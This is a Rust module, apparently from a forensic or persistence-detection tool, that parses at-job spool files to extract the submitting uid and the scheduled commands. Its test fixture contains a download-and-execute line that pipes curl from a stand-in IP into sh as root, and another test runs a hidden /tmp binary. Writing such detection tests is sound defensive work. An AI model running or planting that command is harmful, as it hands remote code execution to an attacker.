//! at jobs: `/var/spool/cron/atjobs/*` (Debian) and `/var/spool/at/*` (Red Hat).
//!
//! Each job is a shell script written by `at`: a header (`#!/bin/sh`, `# atrun uid=0 gid=0`,
//! `# mail root 0`), the submitter's environment as `NAME=value; export NAME` lines, a
//! `cd <dir> || { … }` guard, and then the user's commands — on Debian wrapped in a heredoc
//! `${SHELL:-/bin/sh} << 'marcinDELIMITER…'`. Only the user's commands are returned.

use serde::Serialize;

use super::{script::logical_lines, CommandLine};

/// A parsed at job.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct AtJob {
    /// Submitting uid from `# atrun uid=N`.
    pub uid: Option<u32>,
    /// The user's commands.
    pub commands: Vec<CommandLine>,
}

/// Parses an at spool file.
pub fn parse_at_job(data: &[u8]) -> AtJob {
    let lines = logical_lines(data);
    let uid = String::from_utf8_lossy(data)
        .lines()
        .find_map(|l| l.strip_prefix("# atrun uid="))
        .and_then(|rest| rest.split_whitespace().next())
        .and_then(|n| n.parse().ok());
    // Debian: commands are inside the heredoc.
    if let Some(start) = lines
        .iter()
        .position(|l| l.command.contains("<< 'marcinDELIMITER"))
    {
        let delimiter = lines[start]
            .command
            .split("<< '")
            .nth(1)
            .map(|d| d.trim_end_matches('\'').to_string())
            .unwrap_or_default();
        let commands = lines[start + 1..]
            .iter()
            .take_while(|l| l.command != delimiter)
            .cloned()
            .collect();
        return AtJob { uid, commands };
    }
    // Otherwise: everything after the `cd … || {` guard block, minus environment lines.
    let after_guard = lines
        .iter()
        .position(|l| l.command.starts_with("cd ") && l.command.contains("||"))
        .map(|p| {
            lines[p..]
                .iter()
                .position(|l| l.command == "}")
                .map(|q| p + q + 1)
                .unwrap_or(p + 1)
        })
        .unwrap_or(0);
    let commands = lines[after_guard.min(lines.len())..]
        .iter()
        .filter(|l| !(l.command.contains("; export ") || l.command.starts_with("umask ")))
        .cloned()
        .collect();
    AtJob { uid, commands }
}

#[cfg(test)]
mod tests {
    use super::*;

    const DEBIAN_AT: &[u8] = b"#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nLANG=C.UTF-8; export LANG\nPWD=/root; export PWD\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER6b2a1c4e'\ncurl -s http://198.51.100.4/x | sh\n\nmarcinDELIMITER6b2a1c4e\n";

    #[test]
    fn debian_at_job() {
        let job = parse_at_job(DEBIAN_AT);
        assert_eq!(job.uid, Some(0));
        assert_eq!(job.commands.len(), 1);
        assert_eq!(
            job.commands[0].command,
            "curl -s http://198.51.100.4/x | sh"
        );
        assert_eq!(job.commands[0].line, 12);
    }

    #[test]
    fn other_layouts_and_garbage() {
        let job = parse_at_job(b"#!/bin/sh\n# atrun uid=1000 gid=1000\nX=1; export X\ncd /tmp || {\n exit 1\n}\n/tmp/.x/run\n");
        assert_eq!(job.uid, Some(1000));
        assert_eq!(job.commands[0].command, "/tmp/.x/run");
        let _ = parse_at_job(b"\xff<< 'marcinDELIMITER");
        let _ = parse_at_job(b"");
    }
}
